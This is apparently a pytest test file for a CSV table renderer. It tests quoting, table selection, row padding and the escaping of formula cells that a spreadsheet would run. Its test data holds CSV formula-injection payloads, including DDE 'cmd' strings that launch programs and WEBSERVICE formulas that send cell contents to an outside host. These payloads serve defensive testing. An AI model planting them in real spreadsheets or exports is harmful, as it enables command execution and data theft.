"""Tables as CSV: what stands where, which table, how long rows get, and what a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import Phase, find, given, settings
from hypothesis.strategies import builds, sampled_from

from docparse import (
    Document,
    Emphasis,
    Heading,
    Image,
    KeyPoints,
    LineBreak,
    Link,
    OptionError,
    Paragraph,
    RenderError,
    Section,
    Table,
    TableCell,
    TableOfContents,
    TableRow,
    parse,
    plain_text,
    render,
    walk,
)
from docparse.renderers import csv_formulas
from docparse.renderers.csv import FILLED_CELLS, listing, ragged, tables, unescape_formula
from tests.attack.judge import csv_faults
from tests.growth import explodes, growth
from tests.strategies import documents, formula_tables, formulas, texts
from tests.strategies import tables as any_table

FARES = Table.from_rows([["Zone", "Fare"], ["A", "3"], ["B", "4"]], header_rows=1)


def write(table: Table) -> str:
    return render(table, "csv")


def read(text: str) -> list[list[str]]:
    """Read CSV as Python's own reader does."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


# --------------------------------------------------------------------------------- the text


@pytest.mark.parametrize(
    ("rows", "text"),
    [
        ([["a", "b"], ["1", "2"]], "a,b\r\n1,2\r\n"),
        ([["a, b"]], '"a, b"\r\n'),
        ([['say "a"']], '"say ""a"""\r\n'),
        ([["two\nlines", "\r", "tab\t"]], '"two\nlines","\r","tab\t"\r\n'),
        ([[" a ", "é", "\u00a0"]], " a ,é,\u00a0\r\n"),
        ([["nul\0", "\x1b[31m", "\ud800"]], "nul\ufffd,\ufffd[31m,\ufffd\r\n"),
        ([["a", "b"], ["1"], []], "a,b\r\n1,\r\n,\r\n"),
        ([["a"], [""], []], 'a\r\n""\r\n""\r\n'),
        ([[], []], "\r\n\r\n"),
        ([], ""),
    ],
)
def test_rows_as_csv(rows: list[list[str]], text: str) -> None:
    assert write(Table.from_rows(rows)) == text


def test_a_cell_is_its_plain_text_and_what_its_images_show() -> None:
    link = Link(["see ", Emphasis("here")], "https://example.org")
    picture = Image("https://example.org/a.png", alt="a ferry")
    row = TableRow([TableCell([link, LineBreak(), picture]), TableCell("b")])
    assert read(write(Table([row]))) == [["see here\na ferry", "b"]]


def survives_a_csv_reader(table: Table, write: Callable[[Table], str]) -> None:
    """Reading back gives every row, filled up to the longest, without what CSV cannot hold."""
    width = max((len(row.cells) for row in table.rows), default=0)
    text = write(table)
    text.encode("utf-8")
    assert read(text) == [
        [*map(writable, row.cells), *[""] * (width - len(row.cells))] for row in table.rows
    ]


def writable(cell: TableCell) -> str:
    return re.sub("[\0-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", "\ufffd", text_with_images(cell))


def text_with_images(cell: TableCell) -> str:
    leaves = (node for node in walk(cell) if not node.children)
    return "".join(leaf.alt if isinstance(leaf, Image) else plain_text(leaf) for leaf in leaves)


@given(any_table(clean=False))
def test_a_csv_reader_gives_the_rows_back(table: Table) -> None:
    survives_a_csv_reader(table, write)


@pytest.mark.parametrize(
    "broken",
    [
        lambda table: write(table).replace('""', '"'),
        lambda table: write(table).replace("\ufffd", "\0"),
        lambda table: "".join(",".join(row) + "\r\n" for row in read(write(table))),
        lambda table: write(table).replace(",\r\n", "\r\n"),
    ],
    ids=["quotes not doubled", "nul", "no quotes", "not filled up"],
)
def test_control_broken_csv_is_noticed(broken: Callable[[Table], str]) -> None:
    table = Table.from_rows([['"', "\0,", "x"], ["1", "2"]])
    survives_a_csv_reader(table, write)
    with pytest.raises((AssertionError, csv.Error)):
        survives_a_csv_reader(table, broken)


def test_the_csv_spectrum(shared: Path) -> None:
    folder = shared / "security" / "csv-spectrum"
    paths = sorted((folder / "csvs").glob("*.csv"))
    assert len(paths) >= 10
    for path in paths:
        rows = read(path.read_bytes().decode("utf-8"))
        records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
        # One of the files does not have the line ending in a cell that its JSON says.
        expected = (folder / "json" / f"{path.stem}.json").read_text("utf-8").replace("\\r", "")
        assert json.dumps(records).replace("\\r", "") == json.dumps(json.loads(expected)), path
        assert read(write(Table.from_rows(rows, header_rows=1))) == rows


def test_cells_of_a_parsed_row() -> None:
    document = parse("a | b |\n---|---|\n1, 2 | **x** |\n3 |\n", dialect="1.12")
    assert render(document, "csv") == 'a,b\r\n"1, 2",**x**\r\n3,\r\n'


# ------------------------------------------------------------------------------ which table

SEVERAL = Document(
    [
        TableOfContents(Table.from_rows([["Contents"], ["Fares"]], header_rows=1)),
        Section(Heading(2, "Travel"), [Section(Heading(3, "Fares"), [FARES])]),
        KeyPoints(Table.from_rows([["No.", "Key Points"], ["1", "It rains."]], header_rows=1)),
    ]
)


@pytest.mark.parametrize(
    "node",
    [
        FARES,
        Document([FARES]),
        Document(["a", Section(Heading(2, "b"), [FARES])]),
        KeyPoints(FARES),
        Document([TableOfContents(FARES)]),
    ],
    ids=lambda node: type(node).__name__,
)
def test_the_only_table_is_meant(node: Document) -> None:
    assert render(node, "csv") == "Zone,Fare\r\nA,3\r\nB,4\r\n"
    assert render(node, "csv", table=1) == render(node, "csv")


@pytest.mark.parametrize("node", [Document([]), Paragraph("a | b"), FARES.rows[0]], ids=repr)
def test_no_table(node: Document) -> None:
    with pytest.raises(RenderError, match=f"this {type(node).__name__} holds no table"):
        render(node, "csv")


def test_several_tables_are_listed() -> None:
    with pytest.raises(RenderError) as raised:
        render(SEVERAL, "csv")
    assert str(raised.value) == (
        "this Document holds 3 tables; say table=1 to 3:\n"
        "1. (no heading): 2 × 1: Contents\n"
        "2. Travel > Fares: 3 × 2: Zone, Fare\n"
        "3. (no heading): 2 × 2: No., Key Points"
    )
    assert render(SEVERAL, "csv", table=2) == render(FARES, "csv")


@pytest.mark.parametrize("number", [0, 4, -1, True, "1", 1.0])
def test_a_table_that_is_not_there(number: Any) -> None:
    with pytest.raises(OptionError, match="table is None or 1 to 3, not"):
        render(SEVERAL, "csv", table=number)


def test_no_number_is_right_where_there_is_no_table() -> None:
    with pytest.raises(OptionError, match="is None or nothing else, as there is no table, not"):
        render(Document([]), "csv", table=1)


def test_a_listing_is_short_and_steers_no_terminal() -> None:
    many = Document([Table.from_rows([["\x1b[31m" + "x" * 100]])] * 1000)
    with pytest.raises(RenderError) as raised:
        render(many, "csv")
    message = str(raised.value)
    assert message.endswith("\n… and 950 more")
    assert len(message) < 5000
    assert "\x1b" not in message


def test_a_listing_shows_four_cells_cut_at_forty_characters() -> None:
    rows = [["a" * 40, "b" * 41, "tab\there", "d", "e"]]
    document = Document([Table.from_rows(rows), Table([])])
    assert listing(tables(document)) == (
        f"1. (no heading): 1 × 5: {'a' * 40}, {'b' * 39}…, tab here, d\n2. (no heading): 0 × 0: "
    )


def test_parsed_tables_are_listed_too() -> None:
    document = parse("a | b |\n---|---|\n1 | 2 |\n", dialect="1.12")
    assert listing(tables(document)) == "1. (no heading): 2 × 2: a, b"


def test_fifty_tables_are_listed_whole() -> None:
    assert listing(tables(Document([FARES] * 50))).endswith("\n50. (no heading): 3 × 2: Zone, Fare")
    assert listing(tables(Document([FARES] * 51))).endswith("Zone, Fare\n… and 1 more")


@given(documents(clean=False))
def test_tables_are_numbered_as_they_stand(document: Document) -> None:
    found = tables(document)
    for number, entry in enumerate(found, 1):
        assert render(document, "csv", table=number) == render(entry.table, "csv")
    assert listing(found).count("\n") == max(len(found) - 1, 0)


# ----------------------------------------------------------------------- rows of equal length


def filled_up_to(cells: int) -> Table:
    """Return a table that takes ``cells`` more cells to have rows of equal length."""
    width = 1025
    short = [[str(number)] for number in range(cells // (width - 1))]
    rest = [[""] * (width - cells % (width - 1))] if cells % (width - 1) else []
    return Table.from_rows([["h"] * width, *short, *rest])


def test_rows_are_filled_up_as_far_as_it_goes() -> None:
    table = filled_up_to(FILLED_CELLS)
    assert ragged(table) is None
    assert {len(row) for row in read(write(table))} == {1025}


def test_from_there_on_they_are_ragged_and_a_diagnostic_says_so() -> None:
    table = filled_up_to(FILLED_CELLS + 1)
    lengths = [len(row) for row in read(write(table))]
    assert lengths == [1025] * 65 + [1024]
    diagnostic = ragged(table)
    assert diagnostic is not None
    assert diagnostic.code == "ragged-table"
    assert diagnostic.message.startswith("from row 66 on, ")
    assert "not filled up to 1025 cells" in diagnostic.message


def test_a_wide_header_over_many_short_rows_stays_small() -> None:
    source = "h | " * 3000 + "|\n---|---|\n" + "x | |\n" * 3000
    document = parse(source, dialect="1.12")
    assert len(render(document, "csv")) < 40 * len(source) + 4096
    (entry,) = tables(document)
    diagnostic = ragged(entry.table)
    assert diagnostic is not None
    assert source[slice(*diagnostic.span)].startswith("x |")


# --------------------------------------------------------------------------------- formulas

RUN = [
    # behind = anything is a formula, be it a wrong one
    "=1+1",
    "=cmd|' /C calc'!A0",
    "= Hall of fame",
    "=>",
    " =1",
    "\u00a0\u200b=1",
    "\ufeff=1",
    '"=1"',
    " ' \"=1",
    "“=1”",
    "＝1",
    # behind another sign, what has something to compute
    "@SUM(1)",
    "+SUM (A1)",
    "-1+SUM( 1 ; 2 )",
    "+1-2",
    "-1+2",
    "-5 +cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+49-30-1234",
    "--5",
    "-5/3",
    "-5%*2",
    "-1,5+2",
    "-(1+2)",
    "-A1",
    "-$A$1",
    "-B2:C3",
    "-A:B",
    "-1:2",
    "+R1C1",
    "+x+A1",
    "-'my sheet'!B2",
    "-[x.xlsx]S!B2",
    '-"a"&"b"',
    '-"a b"&WEBSERVICE("http://example.org/?"&A1)',
    "+1\n+1",
    " -1+1",
    '"-A1"',
    "＋1+1",
    "－A1",
    "＠SUM(1)",
    "＠ＳＵＭ（１）",
    # a comma between arguments is none of a decimal
    "+SUM(A1,1)",
    "@SUM(A1 ,2)",
    "-ROUND(MAX(A:A),2)",
    '+WEBSERVICE("http://example.org/"&LEFT(A1,9))',
    "-1+,5",
    # a quote begins a text behind a space too; two in a text are one
    '+HYPERLINK( "http://example.org","c")',
    '+HYPERLINK("http://example.org", "a?")',
    '+A1 & "?"',
    '+TEXT(A1, "€")',
    '+TEXT(A1,"＂")',
    '+HYPERLINK("a""b")',
    '"+HYPERLINK("a?")"',
    # the other parts of a formula
    "+'it''s'!A1",
    "+SUM(Fares[[#All],[One way]:[Both]])",
    "+R[-1]C[2]",
    "+SUM({1\\2;3\\4})",
    "+IF(A1,#N/A)",
    "+#REF!A1",
]
KEPT = ["", "a", "a=1", "1-2", "'tis", "''", "5", "x@y.org", "|", "=", "0 =", "\tx", "\rx", "\nx"]
KEPT += ["-", "--", " - ", "+", "@", "- -", "-5", "+3 %", "-1.234,50", "-1 234,5 ‰", "- 7", "－5"]
KEPT += ["+1,000.00", "-.5", "-5.", "−5", "-1e-7", "-1E+10", "-5,00 €", "-$5.00", "-€5", "-5€"]
KEPT += ["-5 kg", "-5 °C", "-5 to 3", "-5–3", "+49 30 1234-5", "+1 (555) 123-4567", "+1:08.250"]
KEPT += ["@name", "@name said so", "- item", "-item", "- yes, no; or both", "--help", "-well-known"]
KEPT += ["- don't", "-5 (of 7)", "- A1. Five", "-CH2(OH)CH3", "+/-5", "-,5", "- , 5", "-#tag"]
KEPT += ['- "so" they say', '-5 "', "@me\\you", "- see (5 of 7, or 3)", '- A1. "Five", 5']

PARTS = [
    ("x;=1+1", "x;'=1+1"),
    ("x\t=1+1", "x\t'=1+1"),
    ("x\n=1+1", "x\n'=1+1"),
    ("x\r\n=1+1", "x\r\n'=1+1"),
    ("\t=1", "\t'=1"),
    ('x; "=1"', 'x;\' "=1"'),
    ("x;-5;+A1;@SUM(1)", "x;-5;'+A1;'@SUM(1)"),
    ("=1;=2", "'=1;'=2"),
    ("-5\n+A1", "'-5\n'+A1"),
    ("-IF(1;2)", "'-IF(1;2)"),
    ("x;-5\t+A1", "x;'-5\t'+A1"),
    ("x\t-5;+A1", "x\t-5;'+A1"),
    ("x;=\ty", "x;'=\ty"),
    ("x\n=", "x\n'="),
    ("x, y;=", "x, y;'="),
    ("x;=", "x;="),
    ("x,=1", "x,=1"),
    ("x =1 | =2", "x =1 | =2"),
]
"""Cells in which a spreadsheet with another separator than the comma finds several."""

ROWS = [
    (["-5", "3+cmd|' /C calc'!A0"], ["'-5", "3+cmd|' /C calc'!A0"]),
    (["=", "1"], ["'=", "1"]),
    (["x;-5", "3+A1"], ["x;'-5", "3+A1"]),
    (["x;-5", "3", "3+A1;b"], ["x;'-5", "3", "3+A1;b"]),
    (["x;-5", "3;3+A1"], ["x;-5", "3;3+A1"]),
    (["a", "-5", "3+A1"], ["a", "-5", "3+A1"]),
    (["-", "-", "5", "3"], ["-", "-", "5", "3"]),
]
"""Rows whose commas part nothing where another separator does: cells go on in the next one."""


def escaped_row(row: list[str]) -> list[str]:
    (written,) = read(render(Table.from_rows([row]), "csv", formulas="escape"))
    return written


def escape(text: str) -> str:
    """Return what is written of ``text`` in a cell after another one."""
    return escaped_row(["a", text])[1]


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_would_run_gets_a_quote_in_front(text: str) -> None:
    assert escape(text)[:1] == "'"
    assert escape(text).replace("\n'", "\n") == "'" + text
    assert unescape_formula(escape(text)) == text


@pytest.mark.parametrize("text", KEPT)
def test_values_and_text_stay(text: str) -> None:
    assert escape(text) == text
    assert unescape_formula(text) == text


@pytest.mark.parametrize(("text", "escaped"), PARTS)
def test_what_any_separator_would_make_a_cell_is_looked_at(text: str, escaped: str) -> None:
    assert escape(text) == escaped
    assert unescape_formula(escaped) == text


@pytest.mark.parametrize(("row", "escaped"), ROWS)
def test_a_cell_may_go_on_in_the_next(row: list[str], escaped: list[str]) -> None:
    assert escaped_row(row) == escaped
    assert list(map(unescape_formula, escaped)) == row


@pytest.mark.parametrize("text", ["sep=|", " SEP=;", "\ufeffsep=|"])
def test_the_first_cell_names_no_separator(text: str) -> None:
    table = Table.from_rows([[text], ["a|=1"], [text]])
    assert read(render(table, "csv", formulas="escape")) == [["'" + text], ["a|=1"], [text]]


@pytest.mark.parametrize("text", ["'=1", "'-5", "'sep=|", "''=1", "x;'-"])
def test_a_quote_before_a_sign_gets_one_more(text: str) -> None:
    assert escape(text) == text.replace("'", "''", 1)
    assert unescape_formula(escape(text)) == text


@pytest.mark.parametrize("text", [*RUN, *KEPT])
def test_cells_are_kept_unless_asked(text: str) -> None:
    assert read(render(Table.from_rows([[text]]), "csv")) == [[text]]


def is_reversible(text: str, unescape: Callable[[str], str]) -> None:
    assert unescape(escape(text)) == writable(TableCell(text))


@given(texts())
def test_the_escape_is_reversible(text: str) -> None:
    is_reversible(text, unescape_formula)


@given(any_table(clean=False), sampled_from(["", "x;", "'", "'x;", "\t'", "\n"]))
def test_the_escape_of_a_table_is_reversible(table: Table, start: str) -> None:
    rows = [[start + writable(cell) for cell in row.cells] for row in table.rows]
    written = read(render(Table.from_rows(rows), "csv", formulas="escape"))
    kept = read(render(Table.from_rows(rows), "csv"))
    assert [list(map(unescape_formula, row)) for row in written] == kept


@pytest.mark.parametrize(
    "piece",
    [";-", ";-x", "\n-x", "\t-1;", "=", "-(x,", '-x "', "-x '", "-x [", " ", ";'", "\t", "1:"],
)
def test_escaping_takes_time_in_proportion(piece: str) -> None:
    def long_cell(count: int) -> Table:
        return Table.from_rows([["-" + piece * count, "x"]])

    def long_row(count: int) -> Table:
        return Table.from_rows([[piece] * count])

    def escaped(table: Table) -> str:
        return render(table, "csv", formulas="escape")

    for make in (long_cell, long_row):
        assert growth(escaped, make, 100) < 5
    assert not explodes(escaped, long_cell, 16_000)


@given(formula_tables())
def test_nothing_runs_with_any_separator(table: Table) -> None:
    kept, escaped = write(table), render(table, "csv", formulas="escape")
    assert list(csv_faults(kept, escaped)) == []


SIGNS = sampled_from("=+-@")
SIGNED_FORMULAS = builds(str.__add__, SIGNS, formulas())


def is_escaped(before: str, formula: str) -> None:
    assert escape(before + formula).startswith(f"{before}'{formula[0]}")


@given(sampled_from(["", "\t", "\n", "x\ty\t", "x\n"]), SIGNS, formulas())
def test_each_formula_is_escaped(before: str, sign: str, formula: str) -> None:
    is_escaped(before, sign + formula)


@given(SIGNS, formulas(separators=",", in_strings=","))
def test_each_formula_behind_a_semicolon_is_escaped(sign: str, formula: str) -> None:
    is_escaped("x;", sign + formula)


@pytest.mark.parametrize(
    ("part", "broken"),
    [
        (r"| \.[0-9]+ |", r"| [.,][0-9]+ |"),
        (r'"[^"]*(?:""[^"]*)*"', r'"[^"]*"'),
        ('\\t\\r\\n]+ | "', '\\t\\r\\n"]+'),
        (r"'[^']*(?:''[^']*)*'", r"'[^']*'"),
    ],
)
def test_control_a_formula_read_wrong_is_noticed(
    part: str, broken: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    pattern = csv_formulas._FORMULA_TOKEN.pattern
    assert part in pattern
    wrong = re.compile(pattern.replace(part, broken), re.VERBOSE)
    monkeypatch.setattr(csv_formulas, "_FORMULA_TOKEN", wrong)
    wish = settings(
        max_examples=5000, phases=[Phase.generate], deadline=None, database=None, derandomize=True
    )
    with pytest.raises(AssertionError):
        is_escaped("", find(SIGNED_FORMULAS, lambda text: escape(text) == text, settings=wish))


@pytest.mark.parametrize("text", [quotes + text for quotes in ("", "'", "''") for text in RUN])
def test_the_escape_of_an_escape_is_reversible(text: str) -> None:
    is_reversible(text, unescape_formula)


@pytest.mark.parametrize(
    ("inexact", "text"),
    [
        (lambda cell: cell.lstrip("'"), "'=1"),
        (lambda cell: cell[1:] if cell[:1] == "'" else cell, "'tis"),
        (lambda cell: cell[1:] if cell[:1] == "'" else cell, "x;=1"),
        (lambda cell: cell[1:] if cell[:2] == "'=" else cell, "@SUM(1)"),
    ],
)
def test_control_an_inexact_inverse_is_noticed(inexact: Callable[[str], str], text: str) -> None:
    is_reversible(text, unescape_formula)
    with pytest.raises(AssertionError):
        is_reversible(text, inexact)


def test_an_unknown_way_with_formulas() -> None:
    with pytest.raises(OptionError, match='formulas is "keep" or "escape", not \'drop\''):
        render(FARES, "csv", formulas="drop")  # type: ignore[call-overload]
